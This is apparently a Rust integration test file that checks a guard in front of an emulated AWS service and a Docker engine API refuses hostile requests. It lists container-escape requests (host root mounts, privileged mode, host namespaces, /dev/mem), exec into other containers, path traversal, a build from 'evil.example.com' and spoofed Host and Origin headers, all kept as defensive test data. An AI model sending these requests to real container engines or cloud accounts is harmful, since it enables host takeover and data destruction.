//! Attacks on a rehearsal: from its emulated AWS, from one of its services, and from another process on this machine.

use std::io::Write;
use std::process::{Command, Stdio};

use serde_json::{Value, json};

use super::project::{Project, access_key};
use super::server::Behaviour::Good;
use crate::containers::engine::{IMAGE, docker};

/// Makes requests and prints the outcome of each: a status, or that there was no answer. Standard input holds a list of
/// method, address, headers and body.
const ATTACKER: &str = r#"
import http.client, json, sys, urllib.parse
for method, url, headers, body in json.load(sys.stdin):
    parts = urllib.parse.urlsplit(url)
    try:
        connection = http.client.HTTPConnection(parts.netloc, timeout=10)
        target = url.split(parts.netloc, 1)[1]
        connection.putrequest(method, target, skip_host="Host" in headers)
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body.encode())
        answer = connection.getresponse()
        print(answer.status, answer.read(100000).decode(errors="replace").replace("\n", " "))
    except OSError as error:
        print("none", error)
"#;

struct Request {
    method: &'static str,
    url: String,
    headers: Value,
    body: String,
}

fn request(method: &'static str, url: impl Into<String>, body: &Value) -> Request {
    let headers = json!({ "Content-Type": "application/json" });
    Request { method, url: url.into(), headers, body: if body.is_null() { String::new() } else { body.to_string() } }
}

fn with(mut request: Request, headers: Value) -> Request {
    request.headers = headers;
    request
}

/// The outcome of each request from a container on that network.
fn answers(network: &str, requests: &[Request]) -> Vec<String> {
    let image = std::env::var("REHEARSAL_IMAGE").expect("it was there before");
    let mut attacker = Command::new("docker")
        .args(["run", "--rm", "--interactive", "--network", network, "--entrypoint", "python3", &image, "-c", ATTACKER])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("docker is here");
    let asked: Vec<Value> = requests.iter().map(|one| json!([one.method, one.url, one.headers, one.body])).collect();
    let mut input = attacker.stdin.take().expect("piped");
    input.write_all(json!(asked).to_string().as_bytes()).expect("it reads");
    drop(input);
    let output = attacker.wait_with_output().expect("ours");
    let told: Vec<String> = String::from_utf8_lossy(&output.stdout).lines().map(str::to_owned).collect();
    assert_eq!(told.len(), requests.len(), "an answer to each: {told:#?}");
    told
}

/// The requests whose outcome begins with none of the expected ones.
fn let_through(requests: &[Request], answers: &[String], expected: &[&str]) -> Vec<String> {
    requests
        .iter()
        .zip(answers)
        .filter(|(_, answer)| !expected.iter().any(|expected| answer.starts_with(expected)))
        .map(|(one, answer)| format!("{} {} {}: {answer}", one.method, one.url, one.body))
        .collect()
}

fn named(project: &Project, part: &str) -> String {
    let filter = format!("label=devenv.root={}", project.root());
    let names = docker(&["ps", "--filter", &filter, "--format", "{{.Names}}"]);
    names.lines().find(|name| name.ends_with(part)).unwrap_or_else(|| panic!("no {part} in {names}")).to_owned()
}

/// A container that devenv did not make.
struct Foreign(String);

impl Foreign {
    fn new(project: &Project) -> Self {
        let name = format!("{}-foreign", project.path().file_name().expect("a name").to_string_lossy());
        let command = ["--memory", "--allow-any-address", "--listen", "0.0.0.0:8080"];
        docker(&[&["run", "--detach", "--name", &name, IMAGE][..], &command].concat());
        Self(name)
    }

    fn state(&self) -> String {
        docker(&["inspect", "--format", "{{.Id}} {{.State.Running}} {{.State.StartedAt}}", &self.0])
    }
}

impl Drop for Foreign {
    fn drop(&mut self) {
        let _ = Command::new("docker").args(["rm", "--force", &self.0]).output();
    }
}

#[test]
#[ignore = "needs a container engine, Terraform and REHEARSAL_IMAGE"]
fn who_takes_over_the_emulator_gets_nothing_of_the_machine() {
    let project = Project::new();
    project.tested(Good, 1);
    let url = project.released();
    let foreign = Foreign::new(&project);
    let before = foreign.state();
    let guard = named(&project, "-guard");
    let reference = project.history()[0]["release"]["images"]["web"]["reference"].as_str().expect("text").to_owned();
    let engine = |path: &str| format!("http://127.0.0.1:2375{path}");
    let network =
        docker(&["inspect", "--format", "{{range $name, $_ := .NetworkSettings.Networks}}{{$name}}{{end}}", &guard]);
    let create = |host: Value| {
        request(
            "POST",
            engine("/v1.41/containers/create?name=evil"),
            &json!({ "Image": reference, "HostConfig": host }),
        )
    };
    let mut attacks = vec![
        create(json!({ "Binds": ["/:/host"] })),
        create(json!({ "Mounts": [{ "Type": "bind", "Source": "/", "Target": "/host" }] })),
        create(json!({ "VolumesFrom": [foreign.0] })),
        create(json!({ "Privileged": true })),
        create(json!({ "NetworkMode": "host" })),
        create(json!({ "NetworkMode": "bridge" })),
        create(json!({ "NetworkMode": format!("container:{guard}") })),
        create(json!({ "PidMode": "host" })),
        create(json!({ "PidMode": format!("container:{guard}") })),
        create(json!({ "IpcMode": "host" })),
        create(json!({ "UsernsMode": "host" })),
        create(json!({ "CapAdd": ["SYS_ADMIN"] })),
        create(json!({ "Devices": [{ "PathOnHost": "/dev/mem", "PathInContainer": "/dev/mem" }] })),
        create(json!({ "SecurityOpt": ["seccomp=unconfined"] })),
        create(json!({ "PortBindings": { "80/tcp": [{ "HostPort": "80" }] } })),
        request("POST", engine("/containers/create"), &json!({ "Image": IMAGE })),
        request(
            "POST",
            engine("/containers/create"),
            &json!({ "Image": reference, "hostconfig": { "Privileged": true } }),
        ),
        request("POST", engine("/images/create?fromImage=alpine&tag=3"), &Value::Null),
        request("GET", engine(&format!("/images/{IMAGE}/json")), &Value::Null),
    ];
    for (method, path) in [
        ("GET", "/info"),
        ("GET", "/events"),
        ("GET", "/system/df"),
        ("POST", "/build?remote=http://evil.example.com"),
        ("POST", "/images/load"),
        ("GET", "/images/json"),
        ("GET", "/volumes"),
        ("POST", "/volumes/create"),
        ("GET", "/networks"),
        ("POST", "/networks/create"),
        ("GET", "/plugins"),
        ("POST", "/swarm/init"),
        ("GET", "/swarm"),
        ("POST", "/services/create"),
        ("POST", "/secrets/create"),
        ("POST", "/containers/prune"),
        ("GET", "//info"),
        ("GET", "/v1.41/../info"),
        ("GET", "/containers/%2e%2e/info"),
        ("GET", "/containers/x/../../info"),
    ] {
        attacks.push(request(method, engine(path), &json!({ "Name": "evil", "ListenAddr": "0.0.0.0" })));
    }
    for of in [foreign.0.as_str(), &guard, &named(&project, "-aws")] {
        for (method, path) in [
            ("GET", ""),
            ("POST", "/exec"),
            ("POST", "/attach?stream=1&stdout=1"),
            ("GET", "/archive?path=/"),
            ("GET", "/export"),
            ("POST", "/kill"),
            ("POST", "/update"),
            ("GET", "/logs?stdout=1"),
            ("POST", "/stop?t=0"),
            ("POST", "/start"),
            ("POST", "/wait"),
            ("DELETE", "?force=1"),
        ] {
            attacks.push(request(method, engine(&format!("/containers/{of}{path}")), &json!({ "Cmd": ["sh"] })));
        }
    }
    attacks.push(request("GET", engine(&format!("/containers/{}/json", foreign.0)), &Value::Null));
    let place = format!("container:{guard}");
    let told = answers(&place, &attacks);
    assert_eq!(let_through(&attacks, &told, &["403", "404"]), Vec::<String>::new());
    assert_eq!(foreign.state(), before, "and it was not touched");
    assert_eq!(project.edition(&url), Ok(1), "nor was the rehearsal");

    // The guard carries out the requests that a rehearsal needs, and reveals no other containers.
    let good =
        json!({ "Image": reference, "HostConfig": { "NetworkMode": network }, "Labels": { "ministack": "ecs" } });
    let needed = [
        request("GET", engine("/version"), &Value::Null),
        request("GET", engine("/v1.41/containers/json?all=1"), &Value::Null),
        request("POST", engine("/v1.41/containers/create?name=good"), &good),
        request("GET", engine(&format!("/containers/{guard}/json")), &Value::Null),
    ];
    let told = answers(&place, &needed);
    assert_eq!(let_through(&needed, &told, &["200", "201"]), Vec::<String>::new());
    let listed: Value = serde_json::from_str(told[1].trim_start_matches("200 ")).expect("JSON");
    assert_eq!(listed.as_array().map(Vec::len), Some(1), "the task alone: {listed:#}");
    assert!(!told[3].contains(&access_key(&url)), "the guard's own settings are not told: {}", told[3]);
    let made: Value = serde_json::from_str(told[2].trim_start_matches("201 ")).expect("JSON");
    let made: Value = serde_json::from_str(&docker(&["inspect", made["Id"].as_str().expect("an id")])).expect("JSON");
    assert_eq!(made[0]["HostConfig"]["SecurityOpt"], json!(["no-new-privileges:true"]));
    assert!(made[0]["Name"].as_str().is_some_and(|name| name.ends_with("-rehearsal-good")), "{}", made[0]["Name"]);
    project.done(&["down", "--volumes"]);
    assert_eq!(project.things(), Vec::<String>::new(), "down removes every started container");
    assert_eq!(foreign.state(), before);
}

#[test]
#[ignore = "needs a container engine, Terraform and REHEARSAL_IMAGE"]
fn a_service_and_the_rest_of_this_machine_have_no_right_to_the_account() {
    let project = Project::new();
    project.tested(Good, 1);
    let url = project.released();
    let guard = named(&project, "-guard");
    let inspect = |format: &str| docker(&["inspect", "--format", format, &guard]);
    let network = inspect("{{range $name, $_ := .NetworkSettings.Networks}}{{$name}}{{end}}");
    let address = inspect("{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}");
    let login = |key: &str| {
        let scope = format!("{key}/20260101/eu-west-1/s3/aws4_request");
        format!("AWS4-HMAC-SHA256 Credential={scope}, SignedHeaders=host, Signature=0")
    };
    // Requests with the credentials that every service has.
    let aws = |target: &str| json!({ "X-Amz-Target": target, "Authorization": login("devenv") });
    let scan = |at: &str| {
        with(request("POST", format!("{at}/"), &json!({ "TableName": "items" })), aws("DynamoDB_20120810.Scan"))
    };
    let attacks = |at: &str| {
        vec![
            with(request("POST", format!("{at}/"), &json!({})), aws("AmazonEC2ContainerServiceV20141113.ListClusters")),
            with(
                request("POST", format!("{at}/"), &json!({ "TableName": "items" })),
                aws("DynamoDB_20120810.DeleteTable"),
            ),
            with(request("POST", format!("{at}/"), &json!({ "QueueName": "theirs" })), aws("AmazonSQS.CreateQueue")),
            with(
                request("POST", format!("{at}/_alb/nobody/"), &json!({})),
                aws("AmazonEC2ContainerServiceV20141113.ListClusters"),
            ),
            request("GET", format!("{at}/shop-state/rehearsal/release.tfstate"), &Value::Null),
            request("PUT", format!("{at}/shop-state/rehearsal/release.tfstate"), &json!({})),
            request("POST", format!("{at}/_ministack/reset"), &json!({})),
            request("POST", format!("{at}/_ministack/config"), &json!({})),
            request("GET", format!("{at}/v2/_catalog"), &Value::Null),
            request("PUT", format!("{at}/_guard/keys/devenv"), &Value::Null),
        ]
    };
    // From a service: its tables and its load balancers.
    let inside = "http://emulated-aws:4566";
    let mut tried = attacks(inside);
    tried.extend(attacks(&format!("http://{address}:4565")));
    assert_eq!(let_through(&tried, &answers(&network, &tried), &["403", "401"]), Vec::<String>::new());
    let closed = [request("GET", format!("http://{address}:2375/version"), &Value::Null)];
    assert_eq!(let_through(&closed, &answers(&network, &closed), &["none"]), Vec::<String>::new());
    let open = [scan(inside), request("GET", format!("{inside}/_alb/shop-web/work"), &Value::Null)];
    assert_eq!(let_through(&open, &answers(&network, &open), &["200"]), Vec::<String>::new());

    // Another user of this machine tries the published port and the container's own address.
    let published = url.split("/_alb").next().expect("an address");
    let mut tried = attacks(published);
    tried.push(scan(published));
    // From a web page that sends its browser here.
    let login = login(&access_key(&url));
    for headers in [
        json!({ "Host": "evil.example.com", "Authorization": login }),
        json!({ "Origin": "http://evil.example.com", "Authorization": login }),
        json!({ "Host": "evil.example.com" }),
        json!({ "Origin": "null" }),
    ] {
        tried.push(with(request("GET", format!("{published}/_alb/shop-web/work"), &Value::Null), headers.clone()));
        tried.push(with(
            request("GET", format!("{published}/shop-state/rehearsal/release.tfstate"), &Value::Null),
            headers,
        ));
    }
    assert_eq!(let_through(&tried, &answers("host", &tried), &["403", "401"]), Vec::<String>::new());
    let direct = [scan(&format!("http://{address}:4566"))];
    assert_eq!(let_through(&direct, &answers("host", &direct), &["none"]), Vec::<String>::new());
    let open = [
        request("GET", format!("{url}/work"), &Value::Null),
        with(
            request("GET", format!("{published}/shop-state/rehearsal/release.tfstate"), &Value::Null),
            json!({ "Authorization": login }),
        ),
    ];
    assert_eq!(let_through(&open, &answers("host", &open), &["200"]), Vec::<String>::new());
    assert_eq!(project.edition(&url), Ok(1));
}
